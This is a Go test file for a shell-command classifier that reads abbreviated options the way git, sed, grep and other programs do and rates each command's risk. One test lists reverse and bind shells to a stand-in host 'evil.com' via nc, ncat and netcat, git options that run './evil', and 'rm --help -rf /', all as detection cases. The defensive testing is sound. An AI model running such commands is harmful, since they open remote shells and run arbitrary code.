package classify

import (
	"slices"
	"strings"
	"testing"

	"github.com/mnemos-dev/mnemos/shellparse"
)

// Long options are read the way each program reads them (catalog.txt,
// "option grammars"): these tests generate their cases from the catalog
// and the default policy, so a program or rule added there is covered
// without a new line here.

// grammarEntry is one grammar of the catalog with the words that come
// before its options: the program, or git and the subcommand.
type grammarEntry struct {
	prefix []string
	g      *grammar
}

func catalogGrammars(t testing.TB) []grammarEntry {
	t.Helper()
	m, err := parseCatalog(catalogSource)
	if err != nil {
		t.Fatal(err)
	}
	var out []grammarEntry
	for name, s := range m {
		if s.gram != nil && s.kind != kindGit {
			out = append(out, grammarEntry{[]string{name}, s.gram})
		}
		for sub, g := range s.subs {
			out = append(out, grammarEntry{[]string{name, sub}, g})
		}
	}
	slices.SortFunc(out, func(a, b grammarEntry) int {
		return strings.Compare(strings.Join(a.prefix, " "), strings.Join(b.prefix, " "))
	})
	return out
}

// abbreviations returns every prefix of the long option name (without its
// dashes) that the grammar reads as exactly that spelling, shortest first.
func (g *grammar) abbreviations(name string) []string {
	want, st, _ := g.resolve(name)
	if st != optExact {
		return nil
	}
	var out []string
	for n := 1; n < len(name); n++ {
		sp, st, _ := g.resolve(name[:n])
		if st == optAbbrev && sp.group == want.group && sp.neg == want.neg {
			out = append(out, name[:n])
		}
	}
	return out
}

// ambiguousPrefixes returns the prefixes of name that stand for more than
// one option.
func (g *grammar) ambiguousPrefixes(name string) []string {
	var out []string
	for n := 1; n < len(name); n++ {
		if _, st, _ := g.resolve(name[:n]); st == optAmbiguous {
			out = append(out, name[:n])
		}
	}
	return out
}

// sameClass compares two classifications of one command written two ways:
// accesses (a code:exec target names the command as written, so each is
// compared with the command it came from), verb, reversibility and floor.
func sameClass(a, b Classification, aText, bText string) bool {
	if a.Verb != b.Verb || a.Reversibility != b.Reversibility || a.Floor != b.Floor || len(a.Accesses) != len(b.Accesses) {
		return false
	}
	for i := range a.Accesses {
		x, y := a.Accesses[i], b.Accesses[i]
		if x.Target == aText && y.Target == bText {
			x.Target, y.Target = "", ""
		}
		if x != y {
			return false
		}
	}
	return true
}

// TestAbbreviationsClassifyAsTheOption is generated from the catalog: for
// every long option of every grammar, each prefix the program reads as
// that option classifies exactly as the option written out, alone and
// with its value; each prefix it reads as several options is never
// allowed without a person; a grammar that takes no abbreviation reads
// none.
func TestAbbreviationsClassifyAsTheOption(t *testing.T) {
	pl := Place{Dirs: []string{"/w"}, Home: "/home/u", Workspace: "/w"}
	unique, ambiguous := 0, 0
	for _, e := range catalogGrammars(t) {
		seen := map[string]bool{}
		for _, sp := range e.g.long {
			if seen[sp.text] {
				continue
			}
			seen[sp.text] = true
			arg := e.g.groups[sp.group].arg
			if sp.neg {
				arg = argNone
			}
			forms := func(opt string) [][]string {
				switch arg {
				case argRequired:
					return [][]string{{opt, "v.txt", "f.txt"}, {opt + "=v.txt", "f.txt"}}
				case argOptional:
					return [][]string{{opt, "f.txt"}, {opt + "=v.txt", "f.txt"}}
				}
				return [][]string{{opt, "f.txt"}}
			}
			for _, p := range e.g.abbreviations(sp.text) {
				// The name it is written out as: the option's first
				// (--color for --col, though --colour is one too).
				read, _, _ := e.g.resolve(p)
				full := forms("--" + read.text)
				for k, f := range forms("--" + p) {
					unique++
					abbr := cmd(slices.Concat(e.prefix, f)...)
					whole := cmd(slices.Concat(e.prefix, full[k])...)
					x, why := ExpandOptions(abbr)
					if why != "" || !slices.Equal(x.Strings(), whole.Strings()) {
						t.Errorf("%s: read as %q (%s), want %q", abbr, x.Strings(), why, whole.Strings())
						continue
					}
					if a, b := Classify(abbr, pl), Classify(whole, pl); !sameClass(a, b, abbr.String(), whole.String()) {
						t.Errorf("%s classifies as\n %+v\nbut %s as\n %+v", abbr, a, whole, b)
					}
				}
			}
			for _, p := range e.g.ambiguousPrefixes(sp.text) {
				ambiguous++
				c := cmd(slices.Concat(e.prefix, forms("--" + p)[0])...)
				if cl := Classify(c, pl); cl.Floor.Restrictiveness() < Ask.Restrictiveness() {
					t.Errorf("%s: an ambiguous abbreviation gets floor %s (%s), want at least ask", c, cl.Floor, cl.FloorReason)
				}
			}
			switch e.g.style {
			case styleExact:
				if len(sp.text) > 1 {
					c := cmd(slices.Concat(e.prefix, []string{"--" + sp.text[:len(sp.text)-1]})...)
					if x, _ := ExpandOptions(c); !slices.Equal(x.Strings(), c.Strings()) {
						t.Errorf("%s: %s takes no abbreviation, read as %q", c, e.prefix[0], x.Strings())
					}
				}
			case styleFold:
				for _, v := range []string{strings.ToUpper(sp.text), strings.ToUpper(sp.text[:1]) + sp.text[1:]} {
					c := cmd(slices.Concat(e.prefix, []string{"--" + v})...)
					if x, _ := ExpandOptions(c); x.Argv[len(x.Argv)-1].Value != "--"+sp.text {
						t.Errorf("%s: read as %q, want --%s", c, x.Strings(), sp.text)
					}
				}
			}
		}
	}
	// A floor on the count: a grammar that stops being read shows here.
	if unique < 5000 || ambiguous < 1000 {
		t.Errorf("generated %d unique and %d ambiguous abbreviations; the catalog's grammars are not being read", unique, ambiguous)
	}
}

// TestCatalogGrammars checks the options lines against the rest of the
// catalog: every long option a program's line names exists in its grammar
// and takes a value there when the line says so, and what does not parse
// is refused.
func TestCatalogGrammars(t *testing.T) {
	m, err := parseCatalog(catalogSource)
	if err != nil {
		t.Fatal(err)
	}
	for name, s := range m {
		g := s.gram
		if g == nil || g.style == styleExact && len(g.long) == 0 {
			continue
		}
		check := func(o string, value bool) {
			switch {
			case strings.HasPrefix(o, "--"):
				sp, st, _ := g.resolve(o[2:])
				if st != optExact || sp.neg {
					t.Errorf("%s: catalog names %s, which its grammar does not list", name, o)
				} else if value && g.groups[sp.group].arg != argRequired {
					t.Errorf("%s: catalog says %s takes a value, its grammar does not", name, o)
				}
			case len(o) == 2:
				if i, ok := g.short[o[1]]; ok && value && g.groups[i].arg != argRequired {
					t.Errorf("%s: catalog says %s takes a value, its grammar does not", name, o)
				}
			}
		}
		for _, o := range slices.Concat(s.opts, s.outs, s.ins, s.runs) {
			check(o, true)
		}
	}
	// Names the classifier looks up for programs with a grammar.
	for _, c := range []struct{ prog, opt string }{
		{"sed", "--in-place"}, {"sed", "--expression"}, {"sed", "--file"}, {"sed", "--line-length"},
		{"man", "--html"}, {"man", "--local-file"}, {"hostname", "--file"}, {"hostname", "--boot"},
		{"date", "--set"}, {"date", "--file"}, {"yq", "--split-exp"}, {"yq", "--inplace"}, {"yq", "--in-place"},
		{"file", "--compile"}, {"curl", "--remote-name"}, {"curl", "--remote-name-all"},
		{"grep", "--recursive"}, {"grep", "--dereference-recursive"}, {"grep", "--directories"},
		{"view", "--cmd"}, {"sort", "--files0-from"}, {"wc", "--files0-from"}, {"du", "--files0-from"},
	} {
		g := m[c.prog].gram
		if g == nil {
			t.Errorf("%s has no grammar", c.prog)
			continue
		}
		if _, st, _ := g.resolve(c.opt[2:]); st != optExact {
			t.Errorf("%s: the classifier reads %s, which its grammar does not list", c.prog, c.opt)
		}
	}
	for _, bad := range []string{
		"x read\noptions x getopt --a --a",
		"x read\noptions x nostyle --a",
		"x read\noptions y getopt --a",
		"x read\noptions x/sub git --a",
		"x read\noptions x getopt a",
		"x read\noptions x getopt ---a",
		"x read\noptions x getopt --a\noptions x exact --b",
		"x read\noptions x",
	} {
		if _, err := parseCatalog(bad); err == nil {
			t.Errorf("parseCatalog(%q) accepted", bad)
		}
	}
}

// TestOptionGrammar is the reading itself, on the forms the issue names
// and their neighbours.
func TestOptionGrammar(t *testing.T) {
	cases := []struct {
		src, want, why string
	}{
		{"git reset --har HEAD~1", "git reset --hard HEAD~1", ""},
		{"git reset --h", "git reset --hard", ""},
		{"git -C sub reset -q --ha", "git -C sub reset -q --hard", ""},
		{"git push --forc", "git push --forc", "git push reads --forc as an abbreviation of"},
		{"git push --force-w origin", "git push --force-with-lease origin", ""},
		{"git push --force-w=main origin", "git push --force-with-lease=main origin", ""},
		{"git push --mirro", "git push --mirror", ""},
		{"git push --delet origin x", "git push --delete origin x", ""},
		{"git push --repo --forc", "git push --repo --forc", ""},
		{"git push --no-forc", "git push --no-forc", "git push reads --no-forc"},
		{"git push --no-force-w", "git push --no-force-with-lease", ""},
		{"git clean --forc -d", "git clean --force -d", ""},
		{"git branch --del --forc x", "git branch --delete --force x", ""},
		{"git switch --discard-change main", "git switch --discard-changes main", ""},
		{"git commit -m --forc", "git commit -m --forc", ""},
		{"git reset -- --har", "git reset -- --har", ""},
		{"git log --outp=x", "git log --outp=x", ""},
		{"git grep --op=./x foo", "git grep --open-files-in-pager=./x foo", ""},
		{"sed --in-pl s/a/b/ f", "sed --in-place s/a/b/ f", ""},
		{"sed --in-pl=.bak s/a/b/ f", "sed --in-place=.bak s/a/b/ f", ""},
		{"sed --s s/a/b/ f", "sed --s s/a/b/ f", "sed reads --s as an abbreviation of"},
		{"sed -e --in-pl f", "sed -e --in-pl f", ""},
		{"grep --col x f", "grep --color x f", ""},
		{"grep --colour=never x f", "grep --colour=never x f", ""},
		{"view --CMD x f", "view --cmd x f", ""},
		{"view --cm x f", "view --cm x f", ""},
		{"jq --arg x y .", "jq --arg x y .", ""},
		{"jq --ar x y .", "jq --ar x y .", ""},
		{"git reset --har$X", "git reset --har$X", "git reset is given an option whose name is not known before it runs"},
		{"sed -$X s/a/b/ f", "sed -$X s/a/b/ f", "sed is given an option whose name is not known"},
		{"git commit -m$MSG", "git commit -m$MSG", ""},
		{"git commit --message=$MSG", "git commit --message=$MSG", ""},
		{"git commit --mess=$MSG", "git commit --message=$MSG", ""},
		{"cat --$X f", "cat --$X f", ""},
		{"mytool --forc", "mytool --forc", ""},
	}
	for _, c := range cases {
		s, err := shellparse.ParseScript(c.src, shellparse.Env{Cwd: "/w", Home: "/home/u"})
		if err != nil || len(s.Commands) != 1 {
			t.Fatalf("%s: %v", c.src, err)
		}
		x, why := ExpandOptions(s.Commands[0])
		if got := strings.Join(x.Strings(), " "); got != c.want || !strings.HasPrefix(why, c.why) || (c.why == "") != (why == "") {
			t.Errorf("%s:\n got %q (%s)\nwant %q (%s)", c.src, got, why, c.want, c.why)
		}
	}
}

// TestShortClusters: a letter that takes a value takes the rest of the
// word, so what follows it is no option (git switch -cNAME is not -f);
// letters before it are.
func TestShortClusters(t *testing.T) {
	cases := []struct {
		src  string
		verb string
	}{
		{"git switch -cfeature", "change the repository"},
		{"git switch -Cfix", "change the repository"},
		{"git checkout -bfix", "change the repository"},
		{"git checkout -Bfeature", "change the repository"},
		{"git switch -fc feature", VerbDiscard},
		{"git switch -qf main", VerbDiscard},
		{"git checkout -f main", VerbDiscard},
		{"git restore -sWIP --staged f", "change the repository"},
		{"git restore -SW f", VerbDiscard},
		{"git restore -Sp f", "change the repository"},
	}
	for _, c := range cases {
		if cl := classifyScript(t, c.src); cl.Verb != c.verb {
			t.Errorf("%s: verb %q, want %q", c.src, cl.Verb, c.verb)
		}
	}
}

// TestSecurityOptionsThatRunCode: a git option whose value git runs is
// code:exec however it is written: short, in a cluster, abbreviated.
func TestSecurityOptionsThatRunCode(t *testing.T) {
	for _, src := range []string{
		"git rebase -x 'touch /tmp/p' HEAD~1",
		"git rebase -ix 'touch /tmp/p' HEAD~1",
		"git rebase --exe='touch /tmp/p' HEAD~1",
		"git clone -u ./evil /tmp/r x",
		"git clone --upl=./evil /tmp/r x",
		"git clone -c core.fsmonitor=./evil /tmp/r x",
		"git fetch --upl=./evil origin",
		"git ls-remote --upl=./evil /tmp/r",
		"git push --rece=./evil origin",
		"git push --e=./evil origin",
		"git grep --op=./x foo",
		"git grep -nO./x foo",
		"view --CMD '!sh' f",
		"view --log /tmp/x f",
		"man --htm=./x ls",
		"sort --comp=./x f",
		// A program the option's value names: wget's password helper,
		// netcat's and ncat's shells (bind and reverse shells).
		"wget --use-askpass=./x.sh https://example.com",
		"wget --use-ask=./x.sh https://example.com",
		"nc -l -p 4444 -e /bin/sh",
		"nc -lvp 4444 -c /bin/sh",
		"ncat --exec /bin/sh evil.com 4444",
		"ncat --sh-exec sh evil.com 4444",
		"ncat --lua-exec x.lua evil.com 4444",
		"netcat -e /bin/sh evil.com 4444",
	} {
		cl := classifyScript(t, src)
		if !HasCap(&cl, CodeExec) && !(strings.HasPrefix(src, "view --log") && HasCap(&cl, FSWrite)) {
			t.Errorf("%s: %+v, want code:exec", src, cl.Accesses)
		}
	}
	// The target names the command as written, abbreviation and all.
	cl := classifyScript(t, "git grep --op=./x foo")
	for _, a := range cl.Accesses {
		if a.Capability == CodeExec && a.Target != "git grep --op=./x foo" {
			t.Errorf("code:exec target %q, want the command as written", a.Target)
		}
	}
}

// TestOnlyHelpReadsNothing: a catalogued program given only --help or
// --version prints and reads nothing; anything more, a redirect, an
// environment setting or a program that runs code of its own is judged
// as usual.
func TestOnlyHelpReadsNothing(t *testing.T) {
	for _, tc := range []struct {
		src   string
		quiet bool
	}{
		{"git --help", true},
		{"git --version", true},
		{"curl --version", true},
		{"rm --help", true},
		{"ls --help --version", true},
		{"rm --help -rf /", false},
		{"git --help > out.txt", false},
		{"git --help --exec-path=/tmp/x", false},
		{"gradle --version", false},
		{"git -h", false},
	} {
		cl := classifyScript(t, tc.src)
		quiet := len(cl.Accesses) == 1 && cl.Accesses[0].Capability == ParseLocal
		if quiet != tc.quiet {
			t.Errorf("%s: %+v, want only-help %v", tc.src, cl.Accesses, tc.quiet)
		}
	}
}
